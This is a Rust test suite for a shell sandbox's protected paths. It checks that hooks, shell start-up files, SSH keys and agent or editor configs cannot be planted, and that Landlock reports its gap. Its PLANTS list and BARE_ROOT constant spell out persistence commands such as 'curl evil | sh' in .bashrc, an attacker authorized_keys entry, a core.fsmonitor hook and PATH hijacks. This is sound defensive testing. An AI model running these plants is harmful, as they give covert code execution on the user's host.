//! Protected paths under `workspace-write`, with real git, as root and as
//! an unprivileged user, each backend forced.
//!
//! Under bubblewrap every attempt to plant something that runs later on
//! the host (a git hook, `core.fsmonitor`, a shell start-up file, an
//! `.envrc`, editor tasks) is judged by what changed on the host: nothing
//! may. `git status` works (commits and the rest of git's daily work are
//! `git_work.rs`'s); stand-ins for missing protected paths are gone after
//! the command. Under Landlock, which cannot keep them, the result must say
//! so (`partial`, gap `protected-paths`) instead of claiming them.
#![allow(clippy::unwrap_used, clippy::expect_used, missing_docs)]

mod common;

use std::path::Path;
use std::process::Stdio;

use common::confined::{as_user, base, binary, chown, chown_tree, skip, tree, User, NOBODY};

/// A git repository with one commit, a `.bashrc`, `.vscode/tasks.json`, a
/// hook linked to `scripts/pre-commit`, `core.hooksPath = .githooks` (not
/// created yet) and a submodule entry `lib` with its `.git` file, owned by
/// `user`.
fn repository(dir: &Path, user: User) {
    std::fs::create_dir_all(dir.join(".vscode")).unwrap();
    std::fs::create_dir_all(dir.join("scripts")).unwrap();
    std::fs::create_dir_all(dir.join("lib")).unwrap();
    std::fs::write(dir.join(".bashrc"), "# the person's own\n").unwrap();
    std::fs::write(dir.join(".vscode/tasks.json"), "{}\n").unwrap();
    std::fs::write(dir.join("README"), "hello\n").unwrap();
    std::fs::write(dir.join("team.code-workspace"), "{}\n").unwrap();
    std::fs::create_dir_all(dir.join(".cache/tool")).unwrap();
    std::fs::write(dir.join(".cache/tool/run.sh"), "#!/bin/sh\n").unwrap();
    std::fs::write(dir.join("scripts/pre-commit"), "#!/bin/sh\n").unwrap();
    std::fs::write(
        dir.join(".gitmodules"),
        "[submodule \"lib\"]\n\tpath = lib\n\turl = ./lib\n",
    )
    .unwrap();
    std::fs::write(dir.join("lib/.git"), "gitdir: ../.git/modules/lib\n").unwrap();
    let git_in = |at: &Path, args: &[&str]| {
        let status = std::process::Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
            .args(["-c", "advice.addEmbeddedRepo=false"])
            .args(args)
            .current_dir(at)
            .stdout(Stdio::null())
            .status()
            .unwrap();
        assert!(status.success(), "git {args:?}");
    };
    let git = |args: &[&str]| git_in(dir, args);
    git(&["init", "-q"]);
    git(&[
        "add",
        "README",
        ".bashrc",
        ".vscode/tasks.json",
        "scripts",
        ".gitmodules",
        "team.code-workspace",
        ".cache",
    ]);
    // An embedded repository added as a gitlink, no .gitmodules entry,
    // with a gitlink of its own not checked out (a nested submodule).
    let embedded = dir.join("vendor/embedded");
    std::fs::create_dir_all(&embedded).unwrap();
    git_in(&embedded, &["init", "-q"]);
    std::fs::write(embedded.join("g"), "inner\n").unwrap();
    git_in(&embedded, &["add", "g"]);
    git_in(&embedded, &["commit", "-qm", "inner"]);
    git_in(
        &embedded,
        &[
            "update-index",
            "--add",
            "--cacheinfo",
            "160000,1111111111111111111111111111111111111111,deeper",
        ],
    );
    // An included config that sets a hooks path of its own.
    std::fs::create_dir_all(dir.join("conf")).unwrap();
    std::fs::write(
        dir.join("conf/team.cfg"),
        "[core]\n\thooksPath = team-hooks\n",
    )
    .unwrap();
    git(&["add", "vendor/embedded", "conf/team.cfg"]);
    git(&["commit", "-qm", "first"]);
    git(&["config", "core.hooksPath", ".githooks"]);
    git(&["config", "--add", "include.path", "../conf/team.cfg"]);
    git(&["config", "--add", "include.path", "../conf/later.cfg"]);
    git(&["config", "alias.fmt", "!sh tools/fmt.sh"]);
    git(&["config", "diff.pdf.textconv", "sh tools/conv.sh --plain"]);
    std::fs::create_dir_all(dir.join(".git/modules/lib")).unwrap();
    std::os::unix::fs::symlink(
        "../../scripts/pre-commit",
        dir.join(".git/hooks/pre-commit"),
    )
    .unwrap();
    if user == User::Nobody {
        chown_tree(dir, NOBODY);
    }
}

/// `dsh-bash run --json --sandbox workspace-write` in `ws`, which is also
/// the home directory (so the shell's start-up files there are protected).
fn run(user: User, backend: &str, ws: &Path, extra: &[&str], command: &str) -> serde_json::Value {
    let output = as_user(user, binary().to_str().unwrap())
        .args(["run", "--json", "--sandbox", "workspace-write"])
        .args(["--sandbox-backend", backend, "--workdir"])
        .arg(ws)
        .args(extra)
        .arg("--")
        .arg(command)
        .env("HOME", ws)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .stdin(Stdio::null())
        .output()
        .unwrap();
    common::confined::result_json(&output)
}

fn usable(user: User, backend: &str) -> bool {
    let ws = base().join(format!("probe-protected-{backend}-{user:?}"));
    std::fs::create_dir_all(&ws).unwrap();
    if user == User::Nobody {
        chown(&ws, NOBODY);
    }
    let output = as_user(user, binary().to_str().unwrap())
        .args(["run", "--json", "--sandbox", "read-only"])
        .args(["--sandbox-backend", backend, "--workdir"])
        .arg(&ws)
        .args(["--", "true"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    if output.status.success() {
        return true;
    }
    skip(&format!(
        "protected paths under {backend} as {user:?}: the backend is unusable here ({})",
        String::from_utf8_lossy(&output.stderr).trim()
    ));
    false
}

/// Attempts to plant what runs later on the host.
const PLANTS: &[(&str, &str)] = &[
    (
        "git hook",
        "printf '#!/bin/sh\\necho HOOKED\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
    ),
    (
        "core.fsmonitor",
        "git config core.fsmonitor 'touch /tmp/fsmonitor-ran'",
    ),
    ("git config by hand", "echo '[alias] st = !touch /tmp/x' >> .git/config"),
    ("replace .git", "mv .git .git-old; mkdir .git; echo 'ref: x' > .git/HEAD"),
    (".bashrc", "echo 'curl evil | sh' >> .bashrc"),
    (".bashrc replaced", "rm -f .bashrc; echo evil > .bashrc"),
    (".envrc (missing)", "echo 'curl evil | sh' > .envrc"),
    (".zshrc (missing)", "echo evil > .zshrc"),
    (".vscode/tasks.json", "echo '{\"tasks\": []}' > .vscode/tasks.json"),
    (
        ".vscode renamed away",
        "mv .vscode .vscode-old; mkdir .vscode; echo evil > .vscode/tasks.json",
    ),
    (
        ".vscode/settings.json (missing)",
        "echo '{\"terminal.integrated.shell\": 1}' > .vscode/settings.json",
    ),
    (".idea (missing)", "mkdir -p .idea && echo x > .idea/workspace.xml"),
    (".dsh-bash (missing)", "mkdir .dsh-bash; echo x > .dsh-bash/config"),
    (
        "ssh authorized_keys (missing)",
        "mkdir -p .ssh && echo 'ssh-ed25519 AAAA attacker' >> .ssh/authorized_keys",
    ),
    (
        "ssh config ProxyCommand (missing)",
        "mkdir -p .ssh && echo 'ProxyCommand id' > .ssh/config",
    ),
    (
        "through a hook symlinked into the worktree",
        "printf '#!/bin/sh\\nid\\n' > .git/hooks/pre-commit",
    ),
    ("the symlinked hook's target", "echo id >> scripts/pre-commit"),
    (
        "core.hooksPath directory (missing)",
        "mkdir -p .githooks && printf '#!/bin/sh\\nid\\n' > .githooks/pre-commit",
    ),
    (
        ".pre-commit-config.yaml (missing)",
        "printf 'repos:\\n- repo: local\\n' > .pre-commit-config.yaml",
    ),
    (
        "a repository planted in a submodule",
        "rm -f lib/.git; git -C lib init -q && git -C lib config core.fsmonitor id",
    ),
    // Git's other routes.
    (
        "an embedded repository added as a gitlink without .gitmodules",
        "git -C vendor/embedded config core.fsmonitor id",
    ),
    (
        "a nested submodule (a gitlink of the gitlink)",
        "mkdir -p vendor/embedded/deeper && git -C vendor/embedded/deeper init -q && git -C vendor/embedded/deeper config core.fsmonitor id",
    ),
    (
        "include.path naming a file that does not exist yet",
        "printf '[core]\\n\\tfsmonitor = id\\n' > conf/later.cfg",
    ),
    ("the included config itself", "echo '[alias] x = !id' >> conf/team.cfg"),
    (
        "core.hooksPath set in an included file (missing)",
        "mkdir -p team-hooks && printf '#!/bin/sh\\nid\\n' > team-hooks/pre-commit",
    ),
    (
        "a word after the program of an alias (missing)",
        "mkdir -p tools && echo id > tools/fmt.sh",
    ),
    (
        "a textconv's script (missing)",
        "mkdir -p tools && echo id > tools/conv.sh",
    ),
    // The agents' and editors' own configuration.
    (
        ".mcp.json (missing)",
        "echo '{\"mcpServers\": {\"x\": {\"command\": \"id\"}}}' > .mcp.json",
    ),
    (
        ".claude/settings.json hooks (missing)",
        "mkdir -p .claude && echo '{\"hooks\": {}}' > .claude/settings.json",
    ),
    (
        ".codex/config.toml (missing)",
        "mkdir -p .codex && echo 'sandbox_mode = \"danger-full-access\"' > .codex/config.toml",
    ),
    (".cursor/mcp.json (missing)", "mkdir -p .cursor && echo '{}' > .cursor/mcp.json"),
    (".vscode/mcp.json", "echo '{}' > .vscode/mcp.json"),
    (".vscode/extensions.json", "echo '{}' > .vscode/extensions.json"),
    (
        ".devcontainer initializeCommand (missing)",
        "mkdir -p .devcontainer && echo '{\"initializeCommand\": \"id\"}' > .devcontainer/devcontainer.json",
    ),
    (
        "a .code-workspace file's tasks",
        "echo '{\"tasks\": {\"runOn\": \"folderOpen\"}}' > team.code-workspace",
    ),
    (".hg/hgrc (missing)", "mkdir -p .hg && printf '[hooks]\\nupdate = id\\n' > .hg/hgrc"),
    // A home's start-up surface, as a class.
    (".bash_aliases (missing)", "echo 'alias ls=id' > .bash_aliases"),
    (".local/bin (missing)", "mkdir -p .local/bin && echo id > .local/bin/git"),
    (
        ".config/systemd/user (missing)",
        "mkdir -p .config/systemd/user && echo '[Service]' > .config/systemd/user/x.service",
    ),
    (
        ".config/autostart (missing)",
        "mkdir -p .config/autostart && echo x > .config/autostart/x.desktop",
    ),
    (
        ".aws/config credential_process (missing)",
        "mkdir -p .aws && printf '[default]\\ncredential_process = id\\n' > .aws/config",
    ),
    (".kube/config exec (missing)", "mkdir -p .kube && echo 'users: []' > .kube/config"),
    (".cargo/config.toml (missing)", "mkdir -p .cargo && echo '[alias]' > .cargo/config.toml"),
    (".npmrc (missing)", "echo 'script-shell=/tmp/x' > .npmrc"),
    (".vimrc (missing)", "echo '!id' > .vimrc"),
    (".pam_environment (missing)", "echo 'LD_PRELOAD=/tmp/x' > .pam_environment"),
    ("~/bin, first on PATH (missing)", "mkdir -p bin && echo id > bin/git"),
    (".gdbinit (missing)", "echo 'shell id' > .gdbinit"),
    (
        ".vim/plugin (missing)",
        "mkdir -p .vim/plugin && echo '!id' > .vim/plugin/x.vim",
    ),
    (
        "an existing dot-entry of the home, whatever its name",
        "echo 'curl evil | sh' >> .cache/tool/run.sh",
    ),
];

/// What a test must unprotect by name, beyond the default lists, to lift
/// every protection the plants aim at (the classes' members).
const CLASS_MEMBERS: &[&str] = &[".cache", "team.code-workspace"];

/// A protected path that is a symlink (dotfiles linked in, a dangling
/// `.envrc`) neither breaks commands nor is claimed kept: what it points
/// to inside the workspace is kept read-only, and the gap is named.
fn symlinked_protected_paths() {
    let ws = base().join("protected-symlinks");
    std::fs::create_dir_all(ws.join("dotfiles")).unwrap();
    std::fs::write(ws.join("dotfiles/bashrc"), "# linked\n").unwrap();
    std::os::unix::fs::symlink("dotfiles/bashrc", ws.join(".bashrc")).unwrap();
    std::os::unix::fs::symlink("/etc/hostname", ws.join(".profile")).unwrap();
    std::os::unix::fs::symlink("/nonexistent/envrc", ws.join(".envrc")).unwrap();
    let result = run(
        User::Root,
        "bwrap",
        &ws,
        &[],
        "echo more >> dotfiles/bashrc; true",
    );
    assert_eq!(result["exit_code"], 0, "{result}");
    let facts = &result["sandbox"];
    assert_eq!(facts["enforcement"], "partial", "{facts}");
    assert!(
        facts["gaps"]
            .as_array()
            .unwrap()
            .contains(&serde_json::json!("protected-paths")),
        "{facts}"
    );
    assert_eq!(
        std::fs::read_to_string(ws.join("dotfiles/bashrc")).unwrap(),
        "# linked\n",
        "the link's target inside the workspace is kept read-only"
    );
}

/// Every plant changes the workspace when nothing is protected: the check
/// below can fail.
fn plants_work_unprotected(user: User) {
    let ws = base().join(format!("unprotected-{user:?}"));
    let everything: Vec<&str> = dsh_sandbox::DEFAULT_PROTECTED_PATHS
        .iter()
        .chain(dsh_sandbox::HOME_PROTECTED_PATHS)
        .chain(CLASS_MEMBERS)
        .flat_map(|path| ["--unprotect", path])
        .collect();
    for (name, command) in PLANTS {
        let _ = std::fs::remove_dir_all(&ws);
        repository(&ws, user);
        let before = tree(&ws);
        run(user, "bwrap", &ws, &everything, command);
        assert_ne!(
            tree(&ws),
            before,
            "\"{name}\" changes nothing even unprotected"
        );
    }
}

/// Every attempt, with (`beside`) or without another command running in
/// the same workspace, started before the attempts and ending after them.
fn bwrap_keeps_them(user: User, beside: bool) {
    if !beside {
        plants_work_unprotected(user);
    }
    let tag = format!("bwrap-{user:?}{}", if beside { "-beside" } else { "" });
    let ws = base().join(format!("protected-{tag}"));
    repository(&ws, user);
    let release = base().join(format!("release-{tag}"));
    let holder = beside.then(|| {
        // The command itself runs only once its stand-ins are all in place:
        // its mark says the workspace is settled.
        let holder = spawn_as(
            user,
            &ws,
            &format!(
                "touch holder-ready; while [ ! -e {} ]; do sleep 0.02; done",
                release.display()
            ),
        );
        appears(&ws.join("holder-ready"));
        holder
    });
    let before = tree(&ws);
    let mut broken = Vec::new();
    for (name, command) in PLANTS {
        let result = run(user, "bwrap", &ws, &[], command);
        if tree(&ws) != before {
            broken.push(*name);
            // Start the next attempt from the original world.
            std::fs::remove_dir_all(&ws).unwrap();
            repository(&ws, user);
        }
        let facts = &result["sandbox"];
        assert_eq!(facts["enforcement"], "full", "{tag} {name}: {facts}");
        let protected: Vec<&str> = facts["protected"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|p| p.as_str())
            .collect();
        let root = std::fs::canonicalize(&ws).unwrap();
        for expected in [
            ".git",
            ".bashrc",
            ".envrc",
            ".vscode",
            ".idea",
            ".mcp.json",
            ".cache",
            "team.code-workspace",
        ] {
            let path = root.join(expected);
            assert!(
                protected.contains(&path.to_str().unwrap()),
                "{tag} {name}: {} not among {protected:?}",
                path.display()
            );
        }
    }
    assert!(
        broken.is_empty(),
        "{tag}: these changed the workspace's protected paths: {broken:?}"
    );

    // Ordinary work goes on: files are written, git reads.
    let status = run(
        user,
        "bwrap",
        &ws,
        &[],
        "echo new > notes.txt && git status --short && git log --oneline | wc -l",
    );
    assert_eq!(status["exit_code"], 0, "{tag}: {status}");
    // (The workspace is also the home directory here: its missing start-up
    // files stand in as empty files while the command runs, which git
    // lists, as it lists the empty file standing in for the missing
    // included config; directory stand-ins it does not.)
    let listed = status["stdout"]["text"].as_str().unwrap();
    assert!(
        listed.ends_with("?? notes.txt\n1\n")
            || listed.ends_with("?? holder-ready\n?? notes.txt\n1\n"),
        "{tag}: {status}"
    );
    for line in listed.lines().filter(|l| l.starts_with("??")) {
        let name = line.trim_start_matches("?? ");
        assert!(
            name == "notes.txt"
                || name == "holder-ready"
                || name == "conf/later.cfg"
                || dsh_sandbox::HOME_PROTECTED_PATHS.contains(&name),
            "{tag}: {name} listed: {status}"
        );
    }
    // Committing writes .git: refused, and said so.
    let commit = run(
        user,
        "bwrap",
        &ws,
        &[],
        "git add notes.txt && git -c user.name=a -c user.email=a@b commit -qm second",
    );
    assert_ne!(commit["exit_code"], 0, "{tag}: {commit}");
    assert_eq!(commit["sandbox"]["denied"], true, "{tag}: {commit}");
    // With .git unprotected it works.
    let commit = run(
        user,
        "bwrap",
        &ws,
        &["--unprotect", ".git"],
        "git add notes.txt && git -c user.name=a -c user.email=a@b commit -qm second && git log --oneline | wc -l",
    );
    assert_eq!(commit["exit_code"], 0, "{tag}: {commit}");
    assert_eq!(commit["stdout"]["text"], "2\n", "{tag}: {commit}");
    assert!(
        !commit["sandbox"]["protected"]
            .as_array()
            .unwrap()
            .iter()
            .any(|p| p.as_str().is_some_and(|p| p.ends_with("/.git"))),
        "{tag}: {commit}"
    );
    // A workspace inside somebody's repository, without one of its own:
    // its root cannot be made a bare repository git would discover there.
    let outer = base().join(format!("outer-{tag}"));
    repository(&outer, user);
    let inner = outer.join("inner");
    std::fs::create_dir_all(&inner).unwrap();
    if user == User::Nobody {
        chown(&inner, NOBODY);
    }
    let bare = run(
        user,
        "bwrap",
        &inner,
        &[],
        "echo 'ref: refs/heads/main' > HEAD; mkdir -p objects refs; printf '[core]\\n\\tfsmonitor = id\\n' > config",
    );
    assert!(
        !inner.join("HEAD").exists(),
        "{tag}: the root became a bare repository: {bare}"
    );
    if let Some(mut holder) = holder {
        std::fs::write(&release, "").unwrap();
        assert!(holder.wait().unwrap().success(), "{tag}: the holder failed");
    }
    // No stand-in outlived its command.
    for missing in [
        ".envrc",
        ".zshrc",
        "bin",
        ".gdbinit",
        ".idea",
        ".dsh-bash",
        ".mcp.json",
        ".claude",
        ".local",
        ".aws",
        ".bash_aliases",
    ] {
        assert!(
            !ws.join(missing).exists(),
            "{tag}: the stand-in {missing} was left in the workspace"
        );
    }
}

/// Waits (bounded) until `path` exists.
fn appears(path: &Path) {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while !path.exists() {
        assert!(
            std::time::Instant::now() < deadline,
            "{} never appeared",
            path.display()
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
}

/// `dsh-bash run` in the background, under bwrap in `ws`.
fn spawn(ws: &Path, command: &str) -> std::process::Child {
    spawn_as(User::Root, ws, command)
}

/// [`spawn`] as `user`.
fn spawn_as(user: User, ws: &Path, command: &str) -> std::process::Child {
    as_user(user, binary().to_str().unwrap())
        .args([
            "run",
            "--sandbox",
            "workspace-write",
            "--sandbox-backend",
            "bwrap",
        ])
        .arg("--workdir")
        .arg(ws)
        .arg("--")
        .arg(command)
        .env("HOME", ws)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .spawn()
        .unwrap()
}

/// Two commands at once: the first one's end must not lift a protection
/// the second relies on, and the last one out leaves nothing behind.
fn concurrent_commands_keep_each_others_stand_ins() {
    let ws = base().join("protected-concurrent");
    repository(&ws, User::Root);
    let first = spawn(&ws, "while [ ! -e release ]; do sleep 0.02; done");
    appears(&ws.join(".envrc"));
    let mut second = spawn(
        &ws,
        "touch second-ready; while [ ! -e go ]; do sleep 0.02; done; echo evil > .envrc; echo evil > .zshrc; echo evil > .vscode/settings.json",
    );
    appears(&ws.join("second-ready"));
    std::fs::write(ws.join("release"), "").unwrap();
    let mut first = first;
    assert!(first.wait().unwrap().success());
    std::fs::write(ws.join("go"), "").unwrap();
    second.wait().unwrap();
    for path in [".envrc", ".zshrc", ".vscode/settings.json", ".idea", "HEAD"] {
        assert!(
            !ws.join(path).exists(),
            "{path}: planted by the second command, or a stand-in left behind"
        );
    }
}

/// Turns a workspace without a repository of its own into one whose
/// `core.fsmonitor` a person's next `git status` there would run.
const BARE_ROOT: &str = "rmdir HEAD; git init -q --bare .; git --git-dir=. config core.bare false; git --git-dir=. config core.worktree \"$PWD\"; git --git-dir=. config core.fsmonitor 'touch /tmp/dsh-pwned'";

/// Git on the host, as a person would run it there, finds no repository at
/// the root (the ceiling keeps it from looking above).
fn root_stayed_no_repository(ws: &Path, when: &str, result: &serde_json::Value) {
    let found = std::process::Command::new("git")
        .args(["rev-parse", "--git-dir"])
        .current_dir(ws)
        .env("GIT_CEILING_DIRECTORIES", ws.parent().unwrap())
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap();
    assert!(
        !found.status.success() && !ws.join("HEAD").is_file(),
        "{when}: the root became a repository ({}): {result}",
        String::from_utf8_lossy(&found.stdout)
    );
}

/// The root's `HEAD` stays protected while one or ten other commands'
/// `.git` stand-ins are there, and after a killed server left one behind.
fn head_holds_beside_other_commands_and_after_a_kill(user: User) {
    let ws = base().join(format!("protected-head-{user:?}"));
    std::fs::create_dir_all(&ws).unwrap();
    if user == User::Nobody {
        chown(&ws, NOBODY);
    }
    for others in [1, 10] {
        let release = base().join(format!("protected-head-release-{user:?}-{others}"));
        let holders: Vec<_> = (0..others)
            .map(|n| {
                spawn_as(
                    user,
                    &ws,
                    &format!(
                        "touch ready-{others}-{n}; while [ ! -e {} ]; do sleep 0.1; done",
                        release.display()
                    ),
                )
            })
            .collect();
        for n in 0..others {
            appears(&ws.join(format!("ready-{others}-{n}")));
        }
        let result = run(user, "bwrap", &ws, &[], BARE_ROOT);
        root_stayed_no_repository(
            &ws,
            &format!("beside {others} commands ({user:?})"),
            &result,
        );
        std::fs::write(&release, "").unwrap();
        for mut holder in holders {
            assert!(holder.wait().unwrap().success());
        }
        assert!(!ws.join(".git").exists(), "the holders' stand-in stayed");
    }

    let mut killed = spawn_as(user, &ws, "sleep 60");
    appears(&ws.join(".git"));
    killed.kill().unwrap();
    killed.wait().unwrap();
    assert!(
        ws.join(".git").is_dir(),
        "SIGKILL leaves the stand-in (the premise)"
    );
    let result = run(user, "bwrap", &ws, &[], BARE_ROOT);
    root_stayed_no_repository(&ws, &format!("after a killed server ({user:?})"), &result);
}

/// A home inside the workspace that does not exist yet cannot be created
/// (with start-up files in it) by a command.
fn a_missing_home_cannot_be_created() {
    let ws = base().join("protected-missing-home");
    std::fs::create_dir_all(&ws).unwrap();
    let output = as_user(User::Root, binary().to_str().unwrap())
        .args(["run", "--json", "--sandbox", "workspace-write"])
        .args(["--sandbox-backend", "bwrap", "--workdir"])
        .arg(&ws)
        .args([
            "--",
            "mkdir -p home/.ssh; echo key > home/.ssh/authorized_keys; echo id > home/.bashrc",
        ])
        .env("HOME", ws.join("home"))
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(output.status.code().is_some(), "{output:?}");
    assert!(
        !ws.join("home/.bashrc").exists() && !ws.join("home/.ssh").exists(),
        "a missing home was created with start-up files: {}",
        String::from_utf8_lossy(&output.stdout)
    );
    assert!(
        !ws.join("home").exists(),
        "its stand-in outlived the command"
    );
}

/// A hangup stops the command and cleans up; what an outright kill leaves
/// is claimed and removed by the next command.
fn hangups_clean_up_and_kill_leftovers_are_reclaimed() {
    let ws = base().join("protected-hangup");
    repository(&ws, User::Root);
    let mut hung = spawn(&ws, "sleep 30");
    appears(&ws.join(".envrc"));
    // SAFETY: kill(2) on the pid of a child we own and have not reaped.
    unsafe { libc::kill(hung.id() as i32, libc::SIGHUP) };
    hung.wait().unwrap();
    assert!(!ws.join(".envrc").exists(), "a hangup left the stand-ins");

    let mut killed = spawn(&ws, "sleep 30");
    appears(&ws.join(".envrc"));
    killed.kill().unwrap();
    killed.wait().unwrap();
    assert!(
        ws.join(".envrc").is_dir(),
        "SIGKILL leaves them (the limit)"
    );
    let result = run(
        User::Root,
        "bwrap",
        &ws,
        &[],
        "test -d .envrc && echo ok > planted",
    );
    assert_eq!(result["exit_code"], 0, "{result}");
    assert!(
        !ws.join(".envrc").exists(),
        "the next command reclaims them"
    );
}

fn landlock_says_it_cannot(user: User) {
    let tag = format!("landlock-{user:?}");
    let ws = base().join(format!("protected-{tag}"));
    repository(&ws, user);
    let result = run(user, "landlock", &ws, &[], "git status --short");
    assert_eq!(result["exit_code"], 0, "{tag}: {result}");
    let facts = &result["sandbox"];
    assert_eq!(facts["enforcement"], "partial", "{tag}: {facts}");
    assert!(
        facts["gaps"]
            .as_array()
            .unwrap()
            .contains(&serde_json::json!("protected-paths")),
        "{tag}: {facts}"
    );
    assert_eq!(facts["protected"], serde_json::json!([]), "{tag}: {facts}");
    // Nothing protected, nothing claimed: the gap disappears.
    let everything: Vec<&str> = dsh_sandbox::DEFAULT_PROTECTED_PATHS
        .iter()
        .chain(dsh_sandbox::HOME_PROTECTED_PATHS)
        .chain(CLASS_MEMBERS)
        .flat_map(|path| ["--unprotect", path])
        .collect();
    let result = run(user, "landlock", &ws, &everything, "true");
    assert!(
        !result["sandbox"]["gaps"]
            .as_array()
            .unwrap()
            .contains(&serde_json::json!("protected-paths")),
        "{tag}: {result}"
    );
}

#[test]
fn protected_paths_hold_under_bwrap_and_landlock_says_it_cannot() {
    let _ = std::fs::remove_dir_all(base());
    std::fs::create_dir_all(base()).unwrap();
    std::fs::set_permissions(base(), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    if std::process::Command::new("git")
        .arg("--version")
        .output()
        .is_err()
    {
        skip("protected paths: git is not installed");
        return;
    }
    for user in [User::Root, User::Nobody] {
        if usable(user, "bwrap") {
            bwrap_keeps_them(user, false);
            bwrap_keeps_them(user, true);
            head_holds_beside_other_commands_and_after_a_kill(user);
            if user == User::Root {
                symlinked_protected_paths();
                concurrent_commands_keep_each_others_stand_ins();
                a_missing_home_cannot_be_created();
                hangups_clean_up_and_kill_leftovers_are_reclaimed();
            }
        }
        if usable(user, "landlock") {
            landlock_says_it_cannot(user);
        }
    }
    let _ = std::fs::remove_dir_all(base());
}

#[test]
fn bad_protect_arguments_run_nothing_and_say_what_is_allowed() {
    for (args, expected) in [
        (
            vec!["--protect", "/etc/passwd"],
            "invalid protected path \"/etc/passwd\": it must be relative to the workspace root",
        ),
        (
            vec!["--unprotect", "nothing/deeper"],
            "\"nothing/deeper\" is not a protected path; protected: .Rprofile, .aws, .bash_aliases",
        ),
        (
            vec!["--network", "maybe"],
            "unknown network policy \"maybe\": expected off, allow or on",
        ),
    ] {
        let scratch = tempfile::tempdir().unwrap();
        let marker = scratch.path().join("ran");
        let output = std::process::Command::new(env!("CARGO_BIN_EXE_dsh-bash"))
            .args(["run", "--sandbox", "workspace-write"])
            .args(&args)
            .arg("--")
            .arg(format!("touch {}", marker.display()))
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(!output.status.success(), "{args:?}");
        assert!(stderr.contains(expected), "{args:?}: {stderr}");
        assert!(!marker.exists(), "{args:?} ran the command");
    }
}
